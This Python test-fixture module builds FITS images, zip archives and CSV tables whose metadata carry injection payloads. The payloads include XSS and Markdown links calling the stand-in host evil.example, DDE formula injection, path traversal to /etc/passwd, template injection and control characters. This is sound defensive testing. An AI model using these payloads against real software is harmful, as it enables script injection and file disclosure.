"""Texts that attack what shows them, and files that carry them in every place a file has.

Each text bears a tag that tells which one, and in which place, did what it should not.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

import numpy as np

#: Where texts would send a browser; nothing may ask it for anything.
HOST = "evil.example"
#: Keywords of a FITS file that carry texts; ``COMMENT`` stands for ``HISTORY`` too.
CARDS = (
    *("OBJECT", "FILTER", "EXTNAME", "CTYPE1", "SURVEY", "BUNIT", "DATE-OBS", "CLASS"),
    "COMMENT",
)
#: All places, in the order of their letters in a tag.
PLACES = (*CARDS, "file name", "archive member", "table and label")
_SIDE, _NIGHTS, _WORD = 40, 4, 10_000
_NAME_BYTES = 200

#: Kind -> texts; ``{tag}`` becomes the tag, other braces stay.
TEXTS: dict[str, tuple[str, ...]] = {
    "HTML": (
        "<script>pwned('{tag}')</script>",
        "<img src=x onerror=pwned('{tag}')>",
        "<img src=//evil.example/{tag}>",
        "\"><svg onload=pwned('{tag}')>",
        "'><iframe src=//evil.example/{tag}></iframe>",
        "<a href=javascript:pwned('{tag}')>x</a>",
        "<style>@import '//evil.example/{tag}';</style>",
        "<link rel=stylesheet href=//evil.example/{tag}>",
        "</script><script>pwned('{tag}')//",
        "<x-pwned id={tag}>",
        "<form action=//evil.example/{tag}><button autofocus onfocus=pwned()>",
        "<math><mi xlink:href=\"javascript:pwned('{tag}')\">x",
        "&lt;img src=x onerror=pwned('{tag}')&gt;",
        "<details open ontoggle=pwned('{tag}')>",
        "<meta http-equiv=refresh content='0;//evil.example/{tag}'>",
        "<object data=//evil.example/{tag}></object>",
        "<base href=//evil.example/{tag}/>",
    ),
    "Markdown": (
        "![x](http://evil.example/{tag})",
        "[x](http://evil.example/{tag})",
        "[x](javascript:pwned('{tag}'))",
        "http://evil.example/{tag}",
        "www.evil.example/{tag}",
        "{tag}@evil.example",
        "<http://evil.example/{tag}>",
        "**pwned {tag}** _pwned_ ~~pwned~~",
        "`pwned {tag}`",
        "# pwned {tag}",
        "[x]: http://evil.example/{tag} [x]",
        ":red[pwned {tag}] :material/casino: :streamlit:",
    ),
    "LaTeX": (
        "$\\href{http://evil.example/{tag}}{pwned}$",
        "$$\\includegraphics{http://evil.example/{tag}}$$",
        "\\(\\unicode{x3c}pwned{tag}\\)",
    ),
    "addresses": (
        "javascript:pwned('{tag}')",
        "data:text/html,<script>parent.pwned('{tag}')</script>",
        "//evil.example/{tag}",
        "file:///etc/passwd#{tag}",
    ),
    "formulae": (
        '=HYPERLINK("http://evil.example/{tag}")',
        "=cmd|' /C calc'!A0{tag}",
        "+1+1{tag}",
        "-2+3{tag}",
        "@SUM(1){tag}",
        "\t=1{tag}",
    ),
    "invisible": (
        "{tag}\u202egnp.stif",
        "\u05e9\u05dc\u05d5\u05dd {tag} \u0645\u0631\u062d\u0628\u0627",
        "{tag}\0nul",
        "{tag}\x1b[31mred\x1b]8;;http://evil.example/{tag}\x07x",
        "{tag}\r\nX-Pwned: {tag}",
        "{tag}\u200b\u2060\ufeff\u00adzero width",
        "{tag}Z" + "\u0337\u0301\u0308" * 14,
        "\U0001f469\u200d\U0001f680{tag}\U000e0041",
    ),
    "paths": ("../../../../etc/{tag}", "..\\..\\{tag}.exe", "/etc/passwd{tag}"),
    "templates": (
        "{{7*7}}{{constructor.constructor('pwned(1)')()}}{tag}",
        "${pwned('{tag}')}",
        "%{x} %{customdata[0]} %s %n {0} {tag}",
        "[link=http://evil.example/{tag}][red]pwned[/red]",
    ),
    "style": (
        "};*{background:url(//evil.example/{tag})}",
        '<svg><use href="//evil.example/{tag}#x"/></svg>',
    ),
    "long": ("{tag}" + "W" * _WORD,),
}
COUNT = sum(map(len, TEXTS.values()))


def text(number: int, place: str) -> str:
    """Return a text, from 0 to `COUNT` - 1, tagged with its number and place."""
    every = [one for texts in TEXTS.values() for one in texts]
    return every[number].replace("{tag}", f"{number:02}{chr(97 + PLACES.index(place))}")


def file_name(number: int) -> str:
    """Return the name of a FITS file that is one of the texts, as far as a file system has it."""
    name = text(number, "file name").replace("/", "\N{DIVISION SLASH}").replace("\0", "")
    return name.encode()[:_NAME_BYTES].decode("utf-8", "ignore") + ".fits"


def member_name(number: int) -> str:
    """Return the name of an archive member that is one of the texts."""
    return text(number, "archive member").replace("\0", "") + ".fits"


def fits_bytes(number: int, *, named: bool) -> bytes:
    """Return an image sequence whose header has a text at every place.

    Parameters
    ----------
    number : int
        Which text; those that FITS has no letters for are written as they are all the same.
    named : bool
        Whether there is an ``OBJECT``; else the object goes by the name of the file.
    """
    said = {key: text(number, key) for key in CARDS}
    primary: dict[str, object] = {"SIMPLE": True, "BITPIX": 8, "NAXIS": 0, "EXTEND": True}
    primary |= {"RA": 123.4 + number, "DEC": 12.5} | {k: said[k] for k in ("SURVEY", "CLASS")}
    primary |= {"OBJECT": said["OBJECT"]} if named else {}
    blocks = [_header(primary, said["COMMENT"])]
    rng = np.random.default_rng(number)
    for night in range(_NIGHTS):
        pixels = rng.normal(1000, 10, (_SIDE, _SIDE))
        pixels[18:22, 18:22] += 500 * (night + 1)
        frame = {"XTENSION": "IMAGE", "BITPIX": 16, "NAXIS": 2, "NAXIS1": _SIDE, "NAXIS2": _SIDE}
        frame |= {"PCOUNT": 0, "GCOUNT": 1, "MJD-OBS": 55_000.5 + 3 * night}
        frame |= {key: said[key] for key in ("FILTER", "CTYPE1", "BUNIT", "DATE-OBS")}
        frame |= {"EXTNAME": said["EXTNAME"]} if night else {}
        blocks += [_header(frame, said["COMMENT"]), _padded(pixels.astype(">i2").tobytes(), b"\0")]
    return b"".join(blocks)


def broken_fits(number: int) -> bytes:
    """Return a file that cannot be read, with a text where it is broken."""
    said = text(number, "OBJECT")
    return _header({"SIMPLE": True, "BITPIX": said, "NAXIS": 2, "OBJECT": said}, said)


def archive(numbers: range, *, labels: bool = True) -> bytes:
    """Return a zip of a sequence a text, named by it, and a table of classes in such words."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as out:
        for number in numbers:
            out.writestr(zipfile.ZipInfo(member_name(number)), fits_bytes(number, named=False))
            out.writestr(f"broken/{member_name(number)}", broken_fits(number))
        if labels:
            out.writestr("classes.csv", class_table(numbers))
    return packed.getvalue()


def class_table(numbers: range) -> str:
    """Return a table of classes: names, words and columns are texts, every third class is known."""
    place = "table and label"
    rows = [["object", "class", *(text(n, place) for n in numbers)]]
    for n in numbers:
        name = Path(member_name(n)).name.removesuffix(".fits")
        known = ("SN", "CV")[n % 2] if n % 3 == 0 else text(n, place)
        rows.append([name, known, *(text(n, place) for _ in numbers)])
    return _csv(rows)


def curve_table(numbers: range) -> str:
    """Return a table of light curves: names of objects, filters and columns are texts."""
    place = "table and label"
    rows = [["object_id", "mjd", "mag", "mag_err", "filter", *(text(n, place) for n in numbers)]]
    rng = np.random.default_rng(0)
    for n in numbers:
        for night in range(8):
            point = [f"{55_000 + 5 * night}", f"{18 + rng.normal(0, 0.3):.3f}", "0.05"]
            rows.append([text(n, place), *point, text(n, place), *(text(n, place),) * len(numbers)])
    return _csv(rows)


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows([[cell.replace("\0", "") for cell in row] for row in rows])
    return out.getvalue()


def _header(values: Mapping[str, object], comment: str) -> bytes:
    """Return a header; astropy would refuse most of these texts, so it is written by hand."""
    cards = [card for key, value in values.items() for card in _cards(key, value)]
    cards += [f"{key:<8}{comment}".encode()[:80].ljust(80) for key in ("COMMENT", "HISTORY")]
    return _padded(b"".join(cards) + b"END".ljust(80), b" ")


def _cards(key: str, value: object) -> list[bytes]:
    if isinstance(value, bool):
        return [f"{key:<8}= {'T' if value else 'F':>20}".encode().ljust(80)]
    if not isinstance(value, str):
        return [f"{key:<8}= {value!r:>20}".encode().ljust(80)]
    most = 60 if key == "OBJECT" else 68
    parts = _quoted(value, most)
    if key != "OBJECT":
        parts = parts[:1]  # other readers know long texts less well
    marked = [part + b"&" for part in parts[:-1]] + parts[-1:]
    starts = [f"{key:<8}= '".encode(), *[b"CONTINUE  '"] * (len(parts) - 1)]
    return [(start + part + b"'").ljust(80) for start, part in zip(starts, marked, strict=True)]


def _quoted(value: str, most: int) -> list[bytes]:
    """Cut a text into parts of so many bytes, a quote never parted from its double."""
    parts, line = [], b""
    for letter in value.replace("'", "''").replace("''", "\0''").split("\0"):
        for piece in [letter[:2], *letter[2:]] if letter.startswith("''") else letter:
            raw = piece.encode()
            if len(line) + len(raw) > most:
                parts, line = [*parts, line], b""
            line += raw
    return [*parts, line]


def _padded(block: bytes, filling: bytes) -> bytes:
    return block + filling * (-len(block) % 2880)
